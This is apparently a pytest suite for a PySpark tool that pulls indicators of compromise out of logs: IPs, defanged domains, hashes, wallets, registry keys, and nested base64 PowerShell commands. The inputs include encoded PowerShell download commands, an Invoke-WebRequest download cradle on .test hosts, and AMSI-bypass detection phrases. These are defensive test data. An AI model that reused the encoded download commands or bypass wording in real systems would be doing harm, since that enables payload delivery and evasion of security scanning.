import base64

from pyspark.sql import functions as F

from tracewell.operators import ioc


def _found(spark, *texts, **options):
    df = spark.createDataFrame(list(enumerate(texts)), "id int, t string")
    return ioc.extract_iocs(df, ["t"], ["id"], **options).collect()


def _values(rows, kind):
    return sorted(r.value for r in rows if r.type == kind)


def test_address_and_defanged_domain(spark):
    rows = _found(spark, "Connection to evil-c2[.]example.com from 192.0.2.50 seen twice 192.0.2.50")
    assert _values(rows, "ipv4") == ["192.0.2.50"]
    domain = next(r for r in rows if r.type == "domain")
    assert domain.value == "evil-c2.example.com" and domain.defanged
    assert not next(r for r in rows if r.type == "ipv4").defanged


def test_hashes_and_fingerprints(spark):
    md5 = "0123456789abcdef0123456789abcdef"
    rows = _found(spark, f"File {'a' * 64} ja3={md5} ja3s: {md5} imphash={md5} 96:abcdefgh:ijk {'T1' + 'AB' * 35} {'c' * 62} {'d' * 128}")
    by_type = {r.type: r for r in rows}
    assert by_type["sha256"].value == "a" * 64 and by_type["sha256"].confidence == 0.98
    assert by_type["ja3"].value == by_type["ja3s"].value == by_type["imphash"].value == md5
    assert by_type["ssdeep"].value == "96:abcdefgh:ijk" and by_type["tlsh"].value == "T1" + "AB" * 35
    assert by_type["jarm"].value == "c" * 62 and by_type["sha512"].value == "d" * 128
    assert by_type["md5"].confidence == 0.72 and by_type["ja3"].tags == ["tls-fingerprint", "network"]


def test_endpoint_identity_and_money(spark):
    rows = _found(
        spark, "HKLM\\Software\\Run\\K1 Global\\Mtx-1 AS64500 cve-2024-12345 user=Alice; a@b-c.org C:\\tmp\\run.exe 8.8.4.0/24 10.0.0.0/8 "
        "2001:db8:0:0:0:0:0:1 1BoatSLRHtKNngkdXEeobR76b53LETtpyT")
    assert _values(rows, "registry_key") == ["HKLM\\Software\\Run\\K1"]
    assert _values(rows, "mutex") == ["Global\\Mtx-1"]
    assert _values(rows, "asn") == ["AS64500"] and _values(rows, "cve") == ["CVE-2024-12345"]
    assert _values(rows, "user") == ["alice"] and _values(rows, "email") == ["a@b-c.org"]
    assert _values(rows, "process") == ["run.exe"] and "C:\\tmp\\run.exe" in _values(rows, "file_path")
    assert _values(rows, "cidr") == ["8.8.4.0/24"] and _values(rows, "ipv4") == ["8.8.4.0"]
    assert _values(rows, "ipv6") == ["2001:db8:0:0:0:0:0:1"] and len(_values(rows, "btcwallet")) == 1


def test_encoded_command_is_decoded_twice(spark):
    encode = lambda t: base64.b64encode(t.encode("utf-16-le")).decode().rstrip("=")
    inner = "powershell -enc " + encode("http://deep.test/second")
    rows = _found(spark, "powershell -EncodedCommand " + encode("curl http://first.test/x " + inner), source="cmd")
    by_value = {(r.type, r.value): r for r in rows}
    first = by_value["url", "http://first.test/x"]
    assert first.confidence == 0.95 and first.source == "cmd:decoded_ps" and first.kill_chain_phase == "installation"
    deep = by_value["url", "http://deep.test/second"]
    assert deep.source == "cmd:decoded_ps:decoded_ps" and deep.tags == ["network", "encoded-command", "encoded-command"]


def test_commands_are_decoded_however_deep(spark):
    text, rows = "curl http://deep.test/x", []
    for depth in range(1, 7):
        text = "powershell -enc " + base64.b64encode(text.encode("utf-16-le")).decode()
        rows.append((depth, text))
    found = ioc.extract_iocs(spark.createDataFrame(rows, "id int, t string"), ["t"], ["id"]).filter("type = 'url'").collect()
    assert {(r.id, r.value, r.source.count(":decoded_ps")) for r in found} == {(d, "http://deep.test/x", d) for d in range(1, 7)}


def test_broken_units_and_padding_are_ignored(spark):
    data = base64.b64encode("http://ok.test/p".encode("utf-16-le") + b"\x00\xd8" + " end".encode("utf-16-le")).decode().rstrip("=")
    rows = _found(spark, f"x -enc {data}", "x -enc " + "A" * 21)
    assert ("url", "http://ok.test/p") in {(r.type, r.value) for r in rows if r.id == 0}


def test_cradle_and_amsi(spark):
    rows = _found(spark, "IWR 'http://drop.test/a' ; AmsiScanBuffer amsi")
    url = next(r for r in rows if r.type == "url")
    assert url.confidence == 0.95 and url.tags == ["download-cradle", "living-off-the-land"] and url.kill_chain_phase == "delivery"
    assert _values(rows, "yara_rule") == ["amsi_bypass_pattern"]


def test_scope_of_duplicates(spark):
    df = spark.createDataFrame([("i", 1, "8.8.8.8"), ("i", 2, "8.8.8.8"), ("j", 3, "8.8.8.8")], "inc string, id int, t string")
    assert ioc.extract_iocs(df, ["t"], ["inc", "id"], dedupe=["inc"]).count() == 2
    assert ioc.extract_iocs(df, ["t"], ["inc", "id"]).count() == 3
    twice = spark.createDataFrame([(1, "8.8.8.8 8.8.8.8")], "id int, t string")
    assert ioc.extract_iocs(twice, ["t"], ["id"], dedupe=None).filter(F.col("type") == "ipv4").count() == 2


def test_commands_are_decoded_once_and_whole_units_only(spark):
    texts = ["curl http://h1.test/päth/😀x", "plain ascii that is long enough", "ﷰ mÝ ßÐ units that look like halves"]
    raw = [t.encode("utf-16-le") for t in texts]
    lone = b"\x00\xd8" + "a half in front and a byte behind".encode("utf-16-le") + b"\x41"
    rows = [(i, "powershell -enc " + base64.b64encode(b).decode()) for i, b in enumerate([*raw, lone])]
    df = ioc._with_texts(spark.createDataFrame(rows, "id int, t string"), F.col("t"), ["id"])
    got = {r.id: r.text for r in df.filter("depth = 1").collect()}
    assert got == dict(enumerate([*texts, "a half in front and a byte behind"]))
    assert df._jdf.queryExecution().optimizedPlan().toString().count("unhex(") == 1


def test_amsi_patterns_with_letters_that_only_fold_to_ascii(spark):
    rows = [(1, "bypass AMSI"), (2, "disable amſi"), (3, "bypass AMSİ"), (4, "disable amsı"), (5, "bypass am si"), (6, "amsi alone")]
    found = ioc.extract_iocs(spark.createDataFrame(rows, "id int, t string"), ["t"], ["id"]).filter("type = 'yara_rule'")
    assert {r.id for r in found.collect()} == {1, 2, 3, 4}


def test_long_encoded_texts_skip_patterns_and_guards_leave_nothing_out(spark):
    md5, sha256 = "d41d8cd98f00b204e9800998ecf8427e", "ab" * 32
    high = base64.b64encode("curl http://é\U0001f600x.test/퟿".encode("utf-16-le")).decode().rstrip("=")
    broken = base64.b64encode(b"h\x00t\x00t\x00p\x00:\x00/\x00/\x00\x00\xd8q\x00.\x00t\x00e\x00s\x00t\x00z").decode()
    texts = {
        "a": f"powershell -enc {high}", "b": f"x -EN {broken}", "c": "-enc " + "ſ" * 24, "d": f"({md5})", "e": f"ja3=\t{md5}", "f": "T1" + "AF" * 35,
        "g": "Aſ123", "h": "cVe-2024-12345", "i": "uſer=eve", "j": "Account: bob", "k": "1" + "A1b" * 10, "l": "4A" + "1z" * 46 + "2", "m": f"=AS7 {sha256}",
        "n": "1.2.3.4/24 hxxps://e[.]test", "o": f"A{md5} T1{md5}",
    }
    df = spark.createDataFrame(list(texts.items()), "id string, t string")
    found = ioc.extract_iocs(df, ["t"], ["id"])
    plan = found._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count(r"CVE-\d{4}") == 1 and all(f"_has_{guard}" in plan for guard in ("word", "cve", "user"))
    got = {(r.id, r.type): r.value for r in found.collect()}
    assert got["a", "url"] == "http://é\U0001f600x.test/퟿" and got["b", "url"] == "http://q.test"
    assert [k for k in got if k[0] in "co"] == []
    expected = {("d", "md5"): md5, ("e", "ja3"): md5, ("f", "tlsh"): "T1" + "AF" * 35, ("g", "asn"): "Aſ123".upper(), ("h", "cve"): "CVE-2024-12345",
                ("i", "user"): "eve", ("j", "user"): "bob", ("k", "btcwallet"): texts["k"], ("l", "xmrwallet"): texts["l"], ("m", "asn"): "AS7",
                ("m", "sha256"): sha256, ("n", "cidr"): "1.2.3.4/24", ("n", "domain"): "e.test"}
    assert {k: got.get(k) for k in expected} == expected
